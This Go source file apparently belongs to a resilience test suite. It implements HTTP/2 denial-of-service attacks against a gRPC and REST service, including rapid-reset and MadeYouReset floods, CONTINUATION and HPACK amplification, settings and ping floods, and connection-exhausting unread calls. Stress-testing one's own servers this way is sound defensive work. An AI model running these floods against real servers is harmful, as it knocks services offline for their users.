package attack

import (
	"bufio"
	"bytes"
	"context"
	"fmt"
	"net"
	"slices"
	"strings"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Attacks by HTTP/2 frames that no client library would send.

// A peer is one HTTP/2 connection, written by hand.
type peer struct {
	net.Conn
	*http2.Framer
	out     *bufio.Writer
	packer  *hpack.Encoder
	packed  bytes.Buffer
	parting atomic.Value // the last message of the server: a string
}

// A way says which listener a peer uses, and how.
type way struct {
	rest bool // the HTTP library's HTTP/2, which it offers over TLS only
	deaf bool // nothing that the server sends is read
}

// greet opens an HTTP/2 connection with these settings.
func (t *target) greet(ctx context.Context, w way, settings ...http2.Setting) (*peer, error) {
	address := t.GRPC
	if w.rest {
		address = t.REST
	}
	conn, err := t.dial(ctx, address, "h2")
	if err != nil {
		return nil, err
	}
	p := &peer{Conn: conn, out: bufio.NewWriterSize(conn, 32<<10)}
	p.Framer = http2.NewFramer(p.out, bufio.NewReader(conn))
	p.AllowIllegalWrites = true
	p.packer = hpack.NewEncoder(&p.packed)
	context.AfterFunc(ctx, func() { conn.Close() })
	if !w.deaf {
		go p.listen()
	}
	_, err = p.out.WriteString(http2.ClientPreface)
	if err == nil {
		err = p.WriteSettings(settings...)
	}
	if err == nil {
		err = p.flush()
	}
	return p, err
}

// listen reads what the server sends, and keeps its last message.
func (p *peer) listen() {
	for {
		frame, err := p.ReadFrame()
		if err != nil {
			return
		}
		if away, ok := frame.(*http2.GoAwayFrame); ok {
			p.parting.Store(fmt.Sprintf("GOAWAY %s %.40s", away.ErrCode, away.DebugData()))
		}
	}
}

// flush sends what was written. It waits for a server that does not read.
func (p *peer) flush() error { return p.out.Flush() }

func (p *peer) cut() string {
	if said, ok := p.parting.Load().(string); ok {
		return said
	}
	return "connection cut"
}

// request is the header block of a gRPC call.
func (p *peer) request(path, key string, more ...hpack.HeaderField) []byte {
	p.packed.Reset()
	fields := []hpack.HeaderField{
		{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "http"}, {Name: ":path", Value: path},
		{Name: ":authority", Value: "localhost"}, {Name: "content-type", Value: "application/grpc"}, {Name: "te", Value: "trailers"},
	}
	if key != "" {
		fields = append(fields, hpack.HeaderField{Name: "authorization", Value: "Bearer " + key})
	}
	for _, f := range append(fields, more...) {
		_ = p.packer.WriteField(f) // writes to memory
	}
	return p.packed.Bytes()
}

// floodConnections is how many connections a flood uses at once.
const floodConnections = 4

// A gush writes the next few frames of a flood; i counts them from 0.
type gush func(p *peer, i uint32) error

// flood writes frames without a pause, on a new connection when one is closed.
func flood(w way, next gush) func(context.Context, *target) {
	return func(ctx context.Context, t *target) {
		crowd(floodConnections, func(int) {
			for ctx.Err() == nil {
				t.cameBefore(ctx, t.floodOne(ctx, w, next))
				pause(ctx, 10*time.Millisecond)
			}
		})
	}
}

func (t *target) floodOne(ctx context.Context, w way, next gush) string {
	p, err := t.greet(ctx, w)
	if p == nil {
		return "no connection"
	}
	defer p.Close()
	for i := uint32(0); err == nil && i < 1<<29; i++ {
		err = next(p, i)
		if i%64 == 63 && err == nil {
			err = p.flush()
			t.tried(64)
		}
	}
	return p.cut()
}

// stream is the id of the i-th stream that a client may open.
func stream(i uint32) uint32 { return 2*i + 1 }

func rapidReset(p *peer, i uint32) error {
	err := p.WriteHeaders(http2.HeadersFrameParam{StreamID: stream(i), BlockFragment: p.request(getGrid, ""), EndHeaders: true})
	if err != nil {
		return err
	}
	return p.WriteRSTStream(stream(i), http2.ErrCodeCancel)
}

// madeYouReset makes the server reset the client's streams: a window update of
// zero is a stream error.
func madeYouReset(p *peer, i uint32) error {
	err := p.WriteHeaders(http2.HeadersFrameParam{StreamID: stream(i), BlockFragment: p.request(getGrid, ""), EndHeaders: true})
	if err != nil {
		return err
	}
	return p.WriteWindowUpdate(stream(i), 0)
}

func settings(p *peer, i uint32) error {
	return p.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535 + i%2})
}

func settingsAcks(p *peer, _ uint32) error { return p.WriteSettingsAck() }

func pings(p *peer, i uint32) error { return p.WritePing(false, [8]byte{byte(i)}) }

func pingAcks(p *peer, i uint32) error { return p.WritePing(true, [8]byte{byte(i)}) }

func windows(p *peer, i uint32) error {
	if i == 0 {
		if err := p.open(i); err != nil {
			return err
		}
	}
	return p.WriteWindowUpdate(i%2, 1)
}

func priorities(p *peer, i uint32) error {
	return p.WritePriority(stream(i%1000), http2.PriorityParam{Weight: uint8(i)})
}

// continuations are endless header blocks.
func continuations(size int) gush {
	return func(p *peer, i uint32) error {
		if i == 0 {
			return p.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: p.request(getGrid, "")})
		}
		p.packed.Reset()
		for p.packed.Len() < size {
			_ = p.packer.WriteField(hpack.HeaderField{Name: "x", Value: "yyyyyyyyyyyyyyyy", Sensitive: true})
		}
		return p.WriteContinuation(1, false, p.packed.Bytes())
	}
}

// emptyData sends empty data frames to calls that wait for more.
func emptyData(p *peer, i uint32) error {
	if i == 0 {
		if err := p.open(i); err != nil {
			return err
		}
	}
	return p.WriteData(1, false, nil)
}

// open opens the i-th stream for a call.
func (p *peer) open(i uint32) error {
	return p.WriteHeaders(http2.HeadersFrameParam{StreamID: stream(i), BlockFragment: p.request(recordAssessments, ""), EndHeaders: true})
}

// unknownFrames are of a type that does not exist.
func unknownFrames(p *peer, _ uint32) error { return p.WriteRawFrame(0xfe, 0, 0, []byte("nothing")) }

// packedHeaders repeatedly refers to one long header, which the server has to
// store: each reference is a byte on the wire.
func packedHeaders(p *peer, i uint32) error {
	block := p.request(getGrid, "", hpack.HeaderField{Name: "x", Value: strings.Repeat("y", 3000)})
	const newest = 0x80 | 62 // the first entry after the static table
	block = append(block, bytes.Repeat([]byte{newest}, 8000)...)
	return p.WriteHeaders(http2.HeadersFrameParam{StreamID: stream(i), BlockFragment: block, EndHeaders: true, EndStream: true})
}

// unopened sends data to streams that were never opened, or have ended.
func unopened(p *peer, i uint32) error { return p.WriteRSTStream(stream(i%1000), http2.ErrCodeCancel) }

// An ask is a call that is made many times without reading its answers.
type ask struct {
	way
	connections int
	path, role  string
	message     []byte
	swollen     bool // its headers are large in memory, though not on the wire
}

// unread makes calls on many connections and blocks their answers: the windows are
// closed, and nothing is read but what must be acknowledged.
func unread(a ask) func(context.Context, *target) {
	return func(ctx context.Context, t *target) {
		crowd(a.connections, func(int) {
			for ctx.Err() == nil {
				p, err := t.greet(ctx, a.way, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
				if err == nil {
					t.askAndWait(ctx, p, a)
				}
				if p != nil {
					p.Close()
				}
				t.cameBefore(ctx, "connection cut")
				pause(ctx, 10*time.Millisecond)
			}
		})
	}
}

// askAndWait makes a hundred calls, and waits until the server closes the
// connection.
func (t *target) askAndWait(ctx context.Context, p *peer, a ask) {
	var more []hpack.HeaderField
	if a.swollen { // from the second on it is one byte
		more = slices.Repeat([]hpack.HeaderField{{Name: "x", Value: strings.Repeat("x", 3000)}}, 4)
	}
	for i := range uint32(100) {
		err := p.WriteHeaders(http2.HeadersFrameParam{
			StreamID: stream(i), BlockFragment: p.request(a.path, t.keyOf(a.role), more...), EndHeaders: true, EndStream: a.message == nil,
		})
		if err == nil && a.message != nil {
			err = p.WriteData(stream(i), true, message(a.message))
		}
		if err != nil {
			return
		}
		t.tried(1)
	}
	for p.flush() == nil && ctx.Err() == nil { // until a write fails, which shows that the server has closed the connection
		pause(ctx, 100*time.Millisecond)
		_ = p.WriteWindowUpdate(0, 1) // into the buffer
	}
}

// message adds the gRPC prefix to a message.
func message(m []byte) []byte {
	return append([]byte{0, byte(len(m) >> 24), byte(len(m) >> 16), byte(len(m) >> 8), byte(len(m))}, m...)
}
